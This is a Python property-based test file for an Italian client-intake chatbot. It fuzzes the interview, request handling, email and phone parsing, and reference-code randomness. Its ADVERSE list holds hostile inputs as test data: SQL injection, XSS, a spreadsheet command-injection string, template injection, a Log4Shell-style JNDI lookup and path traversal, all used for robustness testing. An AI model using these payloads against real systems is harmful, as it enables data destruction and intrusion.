"""What holds of the intake and of requests whatever people type: properties, not examples."""

from __future__ import annotations

import json
import random
import re
from collections import Counter
from collections.abc import Mapping
from dataclasses import replace
from itertools import pairwise
from typing import Any, get_args

import phonenumbers
import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from actions.firm import AskedField, Firm, IntakeField
from actions.logic import requests
from actions.logic.choices import Choices
from actions.logic.duckling import NativeDuckling
from actions.logic.fields import FieldError, read_email, read_phone, spoken_phone
from actions.logic.intake import Intake, Interview, Turn
from actions.logic.meanings import (
    CANCEL,
    CHANGE,
    CONFIRM,
    CONSENT,
    FREE_TEXT,
    REQUESTS,
    Message,
)
from actions.logic.references import ALPHABET, new_reference, new_resume_code
from actions.logic.wording import clean
from tests.actions.logic.test_intake import KNOWN, NOW, ORDER, known_before

# The firm and the choices are the same for all examples.
many = settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


FIELDS: tuple[str, ...] = get_args(IntakeField)
QUESTIONS = (CONSENT, *FIELDS, CONFIRM, CANCEL, CHANGE)
LABELS = (
    *sorted(REQUESTS),
    *("affirm", "deny", "cancel", "skip", "change_answer", "start_intake", "resume_intake"),
    *("greet", "thank", "goodbye", "erase_data", "out_of_scope", "choose", "unclear"),
    *("faq/internal_client", "faq/", "a label of tomorrow"),
)

# What people type: ----------------------------------------------------------------------------

# Said about answers, and what the rules look for: to be joined with one another and with anything.
PHRASES = (
    *("sì", "no", "salta", "annulla", "riprova", "1", "2.", "non lo so", "mi chiamo Anna Bianchi"),
    *("Maria Rossi della Acme srl", "non Bianchi ma Neri", "non Rossi, è", "no scusa, l'email è"),
    *("anna@example.com", "a@città.example", "333 1234567", "+39 06 6982 0001", "il telefono è"),
    *("la scadenza è", "entro il 10", "la firma entro il 31 gennaio 2030", "domani", "30 febbraio"),
    *("entro le 25:99", "tra 99999999999 giorni", "31/12/9999", "ieri", "nessuna scadenza"),
    *("aggiungi anche", "togli la 2", "cambia la 1 in", "aspettative:", "1) una cosa 2) un'altra"),
    *(
        "• uno\n• due",
        "; poi",
        "vorrei: a, b e c",
        "ho sbagliato",
        "il nome è sbagliato",
        "conserva",
    ),
    *("elimina tutto", "R-K7PM-3XQD-AC9H-TW4E", "k7pm 3xqd", "IT60 X054 2811 1010 0000 0123 456"),
    *("non ho il codice", "solo la conversazione", "l'ho perso", "lascia perdere", "sono sicura"),
    *("P. IVA 01234567890", "perché?", "chi è un cliente?", "privato", "azienda", "esterno", "730"),
)
ADVERSE = (
    *("'; DROP TABLE clients; --", "1 OR 1=1", "Robert'); DELETE FROM engagements;--"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "</textarea>"),
    *('=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "{{7*7}}", "${jndi:ldap://x}", "{0}"),
    *("%s%n%x", "**grassetto** [a](javascript:b)", "\\", "((((", "[a-z", "(?P<x>", "../../etc"),
    *("/affirm", '/inform{"email": "a@b.it"}', "/restart", "/session_start", "\u2060/affirm"),
    *(
        "😀😀😀",
        "👨‍👩‍👧‍👦",
        "🇮🇹",
        "\u202e\u200f\u200b",
        "\ud800",
        "\udc00a\ud83d",
        "a\ud83d b",
        "\x00\x01",
    ),
    *(
        "\x1b[31m",
        "\r\n\t",
        "\u2028",
        "e\u0301" * 20,
        "Z" + "\u0335" * 50,
        "ﷺ",
        "İstanbul",
        "ß",
        "㎏",
    ),
    *("a" * 5000, "a " * 2500, "1" * 5000, "1 " * 2500, "@" * 5000, "a@" * 2500, "-" * 5000),
    *(
        "1) a " * 1000,
        "; a" * 1600,
        "non " * 1250,
        "entro il 10, " * 380,
        "Aa " * 1600,
        "😀" * 5000,
    ),
)
# Lone surrogates included; what is invisible, or half of something, more often than by chance.
characters = st.characters(exclude_categories=()) | st.sampled_from(
    "\x00\x1b\ud83d\udc00\u202e\u200f\u200b\u2060\ufeff\u0301\r\n"
)
texts = st.one_of(
    st.text(characters, min_size=1, max_size=60),
    st.sampled_from(ADVERSE),
    st.lists(
        st.sampled_from(PHRASES) | st.sampled_from(ADVERSE[:-13]) | st.text(characters, max_size=5),
        min_size=1,
        max_size=4,
    ).map(" ".join),
    st.tuples(
        st.sampled_from(PHRASES),
        st.text(characters, min_size=1, max_size=3),
        st.sampled_from(PHRASES),
    ).map("".join),
    st.text("à(){}[];:,.'\"-–•*/\\<>@+0123456789 \n\tabE\u202e\ud800", min_size=1, max_size=80),
)
languages = st.sampled_from(["it", "en"])


@st.composite
def messages(draw: st.DrawFn, of: st.SearchStrategy[str] = texts) -> Message:
    """Draw a message: anything typed under any label, or a button, however old."""
    label = draw(st.sampled_from(LABELS))
    names = st.sampled_from([*QUESTIONS, "skip", "nothing"])
    values = st.sampled_from([*QUESTIONS, "yes", "no", "keep", "discard", "tax", "company"]) | texts
    choice = (
        draw(st.dictionaries(names, values, min_size=1, max_size=2)) if label == "choose" else {}
    )
    confidence = draw(st.sampled_from([0.0, 0.3, 0.5, 0.6, 0.95]))
    return Message(draw(of), label, confidence, draw(languages), choice)


@st.composite
def intakes(draw: st.DrawFn, asked: str | None = None) -> Intake:
    """Draw an intake in which a question is open, with what is known by then, and maybe more."""
    question = asked or draw(st.sampled_from(QUESTIONS))
    before = known_before(question) if question in ORDER else dict(KNOWN)
    more = draw(st.lists(st.sampled_from(FIELDS), unique=True, max_size=3))
    answers = {**before, **{name: KNOWN[name] for name in more if name in KNOWN}}
    if question == "contact" or draw(st.booleans()):
        answers.update(client_form="company", contact="Luca Verdi")
    if "expectations" in answers and draw(st.booleans()):
        answers["expectations"] = ["pagare meno", "avere tempi certi", "un referente solo"]
    skipped = draw(st.sets(st.sampled_from(["phone", "deadline"]), max_size=2)) - set(answers)
    day = {"kind": "date", "date": "2027-01-08", "time": None, "said": "venerdì 8", "purpose": None}
    readings = (day, {**day, "date": "2027-01-15"}) if draw(st.booleans()) else ()
    tries = draw(st.integers(0, 4))
    return Intake(answers, frozenset(skipped), question, readings, tries)


@pytest.fixture(scope="module")
def interview(firm: Firm, choices: Choices) -> Interview:
    return Interview(firm, choices, NativeDuckling())


def check_storable(changes: Mapping[str, Any]) -> None:
    """Check that answers come back from JSON as they were, and that a database takes them."""
    assert json.loads(json.dumps(dict(changes))) == dict(changes)
    written = json.dumps(dict(changes), ensure_ascii=False)
    written.encode()  # half a character has no UTF-8
    assert "\\u0000" not in written  # PostgreSQL takes no NUL


# The interview ----------------------------------------------------------------------------------


@many
@given(intake=intakes(), message=messages())
@example(intake=Intake({}, asked=CONSENT), message=Message("\ud800", "out_of_scope", 0.9, "it"))
@example(intake=Intake(KNOWN, asked=CONFIRM), message=Message("a" * 5000, "affirm", 0.9, "it"))
def test_nothing_that_is_said_breaks_the_interview(
    intake: Intake, message: Message, interview: Interview
) -> None:
    turn = interview.answer(intake, message, NOW)
    check_turn(intake, turn)


@many
@given(message=messages(), known=intakes())
def test_nothing_that_opens_it_breaks_the_interview(
    message: Message, known: Intake, interview: Interview
) -> None:
    for intake in (Intake({}), replace(known, asked=None)):
        turn = interview.begin(intake, message, NOW)
        check_turn(intake, turn)
        # What is known already is not overwritten by what only may be meant.
        assert all(intake.answers.get(name) is None for name in turn.changes)


@many
@given(first=intakes(asked=CONSENT), said=st.lists(messages(), min_size=2, max_size=8))
def test_no_conversation_breaks_the_interview(
    first: Intake, said: list[Message], interview: Interview
) -> None:
    intake = first
    for message in said:
        turn = interview.answer(intake, message, NOW)
        check_turn(intake, turn)
        if turn.outcome:
            break
        skipped = intake.skipped if turn.skipped is None else turn.skipped
        answers = {**intake.answers, **turn.changes}
        intake = Intake(answers, skipped, turn.asks, turn.readings, turn.tries)


def check_turn(intake: Intake, turn: Turn) -> None:
    check_storable(turn.changes)
    check_storable({"readings": list(turn.readings)})
    assert turn.outcome in (None, "complete", "refused", "cancelled", "kept")
    assert turn.asks is None if turn.outcome else turn.asks in QUESTIONS
    assert set(turn.changes) <= {CONSENT, *FIELDS}
    assert all(reply.response.startswith("utter_") for reply in turn.replies)
    if turn.digression:
        assert turn == Turn(asks=intake.asked, digression=True, tries=intake.tries)
    if turn.outcome == "complete":
        assert intake.asked in (CONFIRM, CHANGE)


@many
@given(
    intake=intakes(),
    payload=st.sampled_from([*QUESTIONS, "affirm", "choose"]),
    value=st.sampled_from(["yes", "no", "company", "tax", "anna@example.com", "333 1234567"]),
)
def test_a_typed_command_answers_no_closed_question(
    intake: Intake, payload: str, value: str, interview: Interview
) -> None:
    text = f'/{payload}{{"{payload}": "{value}"}}'
    turn = interview.answer(intake, Message(text, "out_of_scope", 0.95, "it"), NOW)
    assert turn.outcome is None
    # Words like any others, where words are asked for; «tax» is one of a service.
    assert set(turn.changes) <= ({intake.asked} & FREE_TEXT), turn
    allowed = {"expectations": [[text]], "service": [text, "tax"]}
    assert all(stored in allowed.get(name, [text]) for name, stored in turn.changes.items()), turn


@many
@given(intake=intakes(), text=texts, language=languages, label=st.sampled_from(LABELS))
@pytest.mark.parametrize("asked", sorted(FREE_TEXT))
def test_what_is_stored_is_what_was_typed(
    asked: str, intake: Intake, text: str, language: str, label: str, interview: Interview
) -> None:
    assume(label != "choose")
    before = replace(intake, asked=asked, answers={**intake.answers, asked: None})
    turn = interview.answer(before, Message(text, label, 0.95, language), NOW)
    check_storable(turn.changes)
    value = turn.changes.get(asked)
    if value is None or (asked == "service" and value in interview._words["service"]):
        return
    typed = clean(text)
    for item in value if asked == "expectations" else [value]:
        assert item == clean(item) != ""
        assert is_part(item, typed), (item, typed)
    if asked == "expectations":
        # Only the marks of a list, its empty header and courtesies are left out, in one order.
        assert is_subsequence("".join(value), typed)
        if len(value) == 1:
            assert len(value[0]) >= len(typed) - 5


def is_part(stored: str, typed: str) -> bool:
    """Tell whether every stored word stands in what was typed, in the same order."""
    words = stored.replace(":", " ").split()
    place = 0
    for word in words:
        place = typed.find(word, place)
        if place < 0:
            return False
        place += len(word)
    return True


def is_subsequence(stored: str, typed: str) -> bool:
    rest = iter(re.sub(r"[\s:]", "", typed))
    return all(character in rest for character in re.sub(r"[\s:]", "", stored))


@pytest.mark.parametrize("asked", sorted(FREE_TEXT - {"expectations"}))
def test_5000_characters_are_refused_with_a_reason(asked: str, interview: Interview) -> None:
    for text in ("a" * 5000, "Anna " * 1000, "😀a" * 2500):
        intake = Intake(KNOWN, asked=asked)
        turn = interview.answer(intake, Message(text, "out_of_scope", 0.3, "it"), NOW)
        assert turn.changes == {}
        assert [reply.response for reply in turn.replies] == [f"utter_error_{asked}_long"]


# The firm's order -------------------------------------------------------------------------------

GOOD = {
    CONSENT: "sì",
    "client_name": "Anna Bianchi",
    "contact": "Luca Verdi",
    "relation": "esterno",
    "email": "anna@example.com",
    "phone": "333 1234567",
    "service": "contabilità",
    "expectations": "bilanci chiari",
    "deadline": "entro il 15 gennaio 2030",
}


@st.composite
def firms(draw: st.DrawFn, firm: Firm) -> Firm:
    """Draw the settings of a firm: which questions, in which order, required or not."""
    chosen = draw(st.lists(st.sampled_from(FIELDS), unique=True))
    ways = draw(st.sampled_from([["email"], ["phone"], ["email", "phone"]]))
    fields = draw(st.permutations(sorted({*chosen, "client_name", "client_form", *ways})))
    required = {"client_name": True, "client_form": True}  # there is no client without them
    asked = [
        {"field": name, "required": required.get(name) or draw(st.booleans())} for name in fields
    ]
    changed = {
        **json.loads(firm.json()),
        "intake": asked,
        "serves_internal_clients": draw(st.booleans()),
    }
    drawn: Firm = Firm.parse_obj(changed)
    return drawn


@many
@given(data=st.data(), form=st.sampled_from(["privato", "azienda"]))
def test_questions_follow_the_firm_whatever_it_asks(
    data: st.DataObject, form: str, firm: Firm, choices: Choices
) -> None:
    drawn = data.draw(firms(firm))
    rules = Interview(drawn, choices)
    unwanted = data.draw(st.sets(st.sampled_from(FIELDS)))
    required = {item.field: item.required for item in drawn.intake}
    applying = [
        item.field
        for item in drawn.intake
        if (item.field != "contact" or form != "privato")
        and (item.field != "relation" or drawn.serves_internal_clients)
    ]
    form_known = applying.index("client_form")
    if "contact" in applying[:form_known]:
        # Asked in its turn, but not before it is known that there is somebody to talk to.
        applying.insert(form_known + 1, "contact")
        applying.remove("contact")

    intake, asked = Intake({}), []
    intake = replace(intake, asked=rules.next_question(intake))
    for _ in range(4 * len(QUESTIONS)):
        question = intake.asked or ""
        if question == CONFIRM:
            break
        asked.append(question)
        wanted = "salta" if question in unwanted and asked.count(question) == 1 else None
        text = wanted or {**GOOD, "client_form": form}[question]
        turn = rules.answer(intake, Message(text, "out_of_scope", 0.2, "it"), NOW)
        skipped = intake.skipped if turn.skipped is None else turn.skipped
        if wanted and required[question]:
            assert turn.asks == question, "what is required can't be skipped"
        intake = Intake({**intake.answers, **turn.changes}, skipped, turn.asks, (), turn.tries)
    once = [question for question, before in zip(asked, [None, *asked]) if question != before]
    assert once == [CONSENT, *applying]
    assert all(intake.answers.get(name) for name in applying if required[name])
    assert intake.answers.get("email") or intake.answers.get("phone"), "nobody can answer them"
    turn = rules.answer(intake, Message("sì", "affirm", 0.9, "it"), NOW)
    assert turn.outcome == "complete"


@pytest.mark.parametrize("field", ["client_name", "client_form"])
def test_nobody_gets_to_the_summary_without_name_and_form(
    field: str, firm: Firm, choices: Choices
) -> None:
    asked = [{"field": item.field, "required": item.field != field} for item in firm.intake]
    try:
        changed = Firm.parse_obj({**json.loads(firm.json()), "intake": asked})
    except ValidationError:
        return  # the firm is told
    intake = Intake({**KNOWN, field: None}, asked=field)
    turn = Interview(changed, choices).answer(intake, Message("salta", "skip", 0.95, "it"), NOW)
    assert turn.asks == field


@pytest.mark.parametrize(("skipped", "given_later"), [("email", "phone"), ("phone", "email")])
def test_an_optional_way_to_reach_may_be_skipped_where_the_other_is_required(
    skipped: str, given_later: str, firm: Firm, choices: Choices
) -> None:
    asked = (
        AskedField(field="client_name", required=True),
        AskedField(field="client_form", required=True),
        AskedField(field=skipped, required=False),
        AskedField(field=given_later, required=True),
    )
    rules = Interview(firm.copy(update={"intake": asked}), choices)
    answers = {CONSENT: True, "client_name": "Anna Bianchi", "client_form": "individual"}
    turn = rules.answer(Intake(answers, asked=skipped), Message("salta", "skip", 0.95, "it"), NOW)
    assert turn.asks == given_later, turn


# Contacts ---------------------------------------------------------------------------------------


@many
@given(text=st.emails() | texts | st.tuples(texts, st.emails(), texts).map(" ".join))
@example("Maria@Example.COM.")
@example("info@città.example")
@example("anna@xn--citt-3na.example")
def test_an_email_that_is_accepted_is_read_again_to_itself(text: str) -> None:
    try:
        email = read_email(text)
    except FieldError:
        return
    assert read_email(email) == email
    assert read_email(f"la mia mail è {email}.") == email
    check_storable({"email": email})


@many
@given(
    country=st.sampled_from(["IT", "DE", "GB", "US", "CH"]),
    digits=st.text("0123456789", min_size=5, max_size=13),
    prefix=st.sampled_from(["", "+39", "0039", "+44 ", "+1", "+41", "+49 ", "0", "3"]),
    chance=st.randoms(use_true_random=False),
)
def test_a_phone_that_is_accepted_is_read_again_to_itself(
    country: str, digits: str, prefix: str, chance: random.Random
) -> None:
    spaced = "".join(digit + chance.choice(["", "", " ", "-", "/", "."]) for digit in digits)
    try:
        phone = read_phone(prefix + spaced, country)
    except FieldError:
        return
    assert read_phone(phone, country) == phone
    # What is shown at the summary, and copied from there, is the same number.
    assert read_phone(spoken_phone(phone), country) == phone


@pytest.mark.parametrize("country", sorted(phonenumbers.SUPPORTED_REGIONS))
def test_the_phones_of_every_country_are_read_again(country: str) -> None:
    number = phonenumbers.example_number(country)
    said = phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.INTERNATIONAL)
    phone = read_phone(said, "IT")
    assert read_phone(phone, "IT") == read_phone(spoken_phone(phone), "IT") == phone


@many
@given(intake=intakes(asked="email") | intakes(asked="phone"), message=messages())
def test_contacts_that_the_interview_takes_are_taken_again(
    intake: Intake, message: Message, interview: Interview
) -> None:
    turn = interview.answer(intake, message, NOW)
    for name in ("email", "phone"):
        if (value := turn.changes.get(name)) is not None:
            cleared = replace(intake, asked=name, answers={**intake.answers, name: None})
            again = interview.answer(cleared, Message(value, "out_of_scope", 0.2, "it"), NOW)
            assert again.changes[name] == value


# References -------------------------------------------------------------------------------------

DRAWS = 10_000


def test_references_are_unique_unmistakable_and_without_a_sequence() -> None:
    codes = [new_reference() for _ in range(DRAWS)]
    # Two equal ones among so many come once in 1,500 runs, and are drawn again when stored.
    assert len(set(codes)) >= DRAWS - 1
    assert all(re.fullmatch(f"[{ALPHABET}]{{4}}-[{ALPHABET}]{{4}}", code) for code in codes)
    assert not set("".join(codes)) & set("0O1I")
    # Neither grows: half of them follow a smaller one (29 is the standard deviation).
    rising = sum(before < after for before, after in pairwise(codes))
    assert abs(rising - DRAWS / 2) < 6 * 29
    # At no place a letter is rarer or more frequent than chance (about 20 either way) allows.
    for letters in zip(*codes):
        if letters[0] != "-":
            counted = Counter(letters)
            assert all(abs(counted[letter] - DRAWS / len(ALPHABET)) < 150 for letter in ALPHABET)
    assert max(Counter(code[:4] for code in codes).values()) < 6


def test_resume_codes_are_unique() -> None:
    codes = {new_resume_code() for _ in range(DRAWS)}
    assert len(codes) == DRAWS
    assert not set("".join(codes)) & set("0O1I")


# What is asked besides --------------------------------------------------------------------------

FACTS = {
    requests.REFERENCE: "K7PM-3XQD",
    requests.EMAIL: "anna@example.com",
    requests.CONTACT: "+393331234567",
}


@st.composite
def open_requests(draw: st.DrawFn) -> requests.Request:
    topic = draw(st.sampled_from(sorted(requests.NEEDED)))
    needed = requests.NEEDED[topic]
    asked = draw(st.sampled_from(needed))
    known = draw(st.sets(st.sampled_from(needed))) - {asked}
    answers = {name: FACTS[name] for name in known if name in FACTS}
    return requests.Request(topic, answers, asked, draw(st.integers(0, 3)))


@many
@given(request=open_requests(), message=messages(), country=st.sampled_from(["IT", "DE", "US"]))
@example(
    request=requests.Request("erase", {}, requests.REFERENCE),
    message=Message("non ho nessun codice", "out_of_scope", 0.2, "it"),
    country="IT",
)
def test_nothing_that_is_said_breaks_a_request(
    request: requests.Request, message: Message, country: str
) -> None:
    turn = requests.answer(request, message, country)
    check_request(turn)
    if turn.digression:
        assert turn == Turn(asks=request.asked, digression=True)
    if turn.outcome == "ready" and request.topic == "erase":
        # Nothing is erased that was not asked about and agreed to.
        assert request.asked == requests.SURE_OF_IT


@many
@given(topic=st.sampled_from(sorted(requests.NEEDED)), text=texts)
def test_nothing_that_is_said_breaks_the_beginning_of_a_request(topic: str, text: str) -> None:
    turn = requests.begin(topic, text, "IT")
    check_request(turn)
    assert set(turn.changes) <= set(requests.NEEDED[topic])
    assert (turn.outcome == "ready") == (turn.asks is None)
    assert topic != "erase" or turn.outcome is None


def check_request(turn: Turn) -> None:
    check_storable(turn.changes)
    facts = {fact for needed in requests.NEEDED.values() for fact in needed}
    assert set(turn.changes) <= facts
    assert turn.outcome in (None, "ready", "dropped")
    assert turn.asks is None if turn.outcome else turn.asks in facts
    if reference := turn.changes.get(requests.REFERENCE):
        assert set(reference) <= {*ALPHABET, "-"}
